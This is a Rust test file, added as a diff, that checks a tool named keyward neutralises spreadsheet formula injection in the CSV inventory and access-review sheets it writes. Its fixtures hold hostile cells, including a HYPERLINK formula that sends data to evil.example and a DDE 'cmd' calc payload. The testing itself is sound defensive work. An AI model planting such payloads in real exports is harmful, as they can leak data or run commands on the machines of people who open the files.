@@ -1,0 +1,133 @@
+//! What HR rows and vendor exports typed by anyone can do to the files and
+//! the terminal keyward writes for people: no spreadsheet formula in a
+//! CSV keyward writes (review sheets, `inventory --format csv`), and what
+//! a review sheet says comes back from `review import` unchanged.
+#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is the failure report
+
+use std::path::Path;
+
+use assert_cmd::Command;
+use keyward_testkit::org::{HR_CSV_HEADER, people_source_yaml};
+
+/// E1's family name and E2's department are formulas; E3 is a plain person.
+const HR: &str = "E1,=HYPERLINK(\"http://evil.example/?\"&A1),太郎,taro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n\
+E2,鈴木,花子,hanako@example.com,+営業本部,,正社員,在籍,2015/04/01,,\n\
+E3,佐藤,次郎,jiro@example.com,開発本部,,正社員,在籍,2015/04/01,,\n";
+
+/// Cells that start a formula in a spreadsheet: `=`, `+`, `-`, `@` (a tab
+/// or carriage return at the start of a cell is trimmed when it is read).
+const SLACK: &str = "username,email,status,groups\n\
+@taro,taro@example.com,Member,-1+1\n\
+hanako,hanako@example.com,Member,+49 30\n\
+=cmd|' /C calc'!A0,,Member,x\n\
+'=already,jiro@example.com,Member,plain\n";
+
+const APP: &str = "apiVersion: keyward.io/v1alpha1
+kind: Application
+metadata: {name: slack}
+spec:
+  owner: it@example.com
+  connector:
+    csvExport:
+      path: ../data/slack.csv
+      columns: {username: username, email: email, status: status, groups: groups}
+      statusValues: {active: [Member]}
+  correlate: [{email: {}}]
+---
+apiVersion: keyward.io/v1alpha1
+kind: AccessPolicy
+metadata: {name: nobody}
+spec:
+  select: {department: [人事部]}
+  grant: [{app: slack}]
+";
+
+fn org() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |rel: &str, text: &str| {
+        let p = dir.path().join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, text).unwrap();
+    };
+    write("data/hr.csv", &format!("{HR_CSV_HEADER}{HR}"));
+    write("data/slack.csv", SLACK);
+    write("policies/people.yaml", &people_source_yaml("../data/hr.csv"));
+    write("policies/slack.yaml", APP);
+    dir
+}
+
+fn keyward(dir: &Path, args: &[&str]) -> String {
+    let out = Command::cargo_bin("keyward").unwrap().current_dir(dir).env("NO_COLOR", "1").args(args).output().unwrap();
+    assert!(out.status.success(), "keyward {args:?}: {}", String::from_utf8_lossy(&out.stderr));
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// Every cell of a CSV text.
+fn cells(text: &str) -> Vec<String> {
+    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
+    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+    r.records().flat_map(|rec| rec.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+}
+
+/// No cell starts a formula; returns the cells that were defused.
+fn assert_no_formula(what: &str, text: &str) -> Vec<String> {
+    let all = cells(text);
+    for c in &all {
+        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: cell {c:?} starts a formula in:\n{text}");
+    }
+    all.into_iter().filter(|c| c.starts_with('\'')).collect()
+}
+
+#[test]
+fn inventory_csv_cells_cannot_start_a_formula() {
+    let dir = org();
+    let text = keyward(dir.path(), &["inventory", "-f", "policies", "--at", "2026-11-23", "--format", "csv"]);
+    let defused = assert_no_formula("inventory", &text);
+    for want in ["'@taro", "'-1+1", "'+49 30", "'=cmd|' /C calc'!A0", "''=already"] {
+        assert!(defused.iter().any(|c| c == want), "{want:?} not in {defused:?}");
+    }
+    assert!(defused.iter().any(|c| c.starts_with("'=HYPERLINK")), "{defused:?}");
+}
+
+#[test]
+fn review_sheets_cannot_start_a_formula_and_read_back_unchanged() {
+    let dir = org();
+    let out = dir.path().join("review");
+    keyward(
+        dir.path(),
+        &["review", "export", "-f", "policies", "--at", "2026-11-23", "--by", "app", "--out-dir", "review"],
+    );
+    let sheet = out.join("it@example.com.csv");
+    let text = std::fs::read_to_string(&sheet).unwrap();
+    let defused = assert_no_formula("review sheet", &text);
+    assert!(defused.iter().any(|c| c == "'+営業本部"), "{defused:?}");
+    // The reviewer keeps E1's and E2's accounts, with a comment that is a
+    // formula too (as a spreadsheet saves a cell typed with a leading `'`).
+    let body = text.strip_prefix('\u{feff}').unwrap();
+    let mut r = csv::Reader::from_reader(body.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let mut w = csv::Writer::from_writer(b"\xef\xbb\xbf".to_vec());
+    w.write_record(&header).unwrap();
+    for rec in r.records() {
+        let mut row: Vec<String> = rec.unwrap().iter().map(str::to_owned).collect();
+        if row[8] == "E1" || row[8] == "E2" {
+            row[15] = "keep".into();
+            row[16] = "'=needed for the Q4 close".into();
+        }
+        w.write_record(&row).unwrap();
+    }
+    std::fs::write(&sheet, w.into_inner().unwrap()).unwrap();
+    let report = keyward(
+        dir.path(),
+        &["review", "import", "review/it@example.com.csv", "--until", "2099-03-31", "--out", "exceptions.yaml"],
+    );
+    assert!(report.contains("Wrote 2 Exception(s)"), "{report}");
+    let yaml = std::fs::read_to_string(dir.path().join("exceptions.yaml")).unwrap();
+    assert_eq!(yaml.matches("reason: =needed for the Q4 close\n").count(), 2, "{yaml}");
+    assert!(yaml.contains("    - -1+1\n") && yaml.contains("    - +49 30\n"), "groups as the app wrote them: {yaml}");
+    // The Exceptions grant what the app has: the plan flags nothing as ungranted any more.
+    let before = keyward(dir.path(), &["plan", "-f", "policies", "--at", "2026-11-23"]);
+    assert!(before.contains("E1") && before.contains("E2"), "{before}");
+    let after = keyward(dir.path(), &["plan", "-f", "policies", "-f", "exceptions.yaml", "--at", "2026-11-23"]);
+    assert!(!after.contains("E1") && !after.contains("E2"), "{after}");
+}
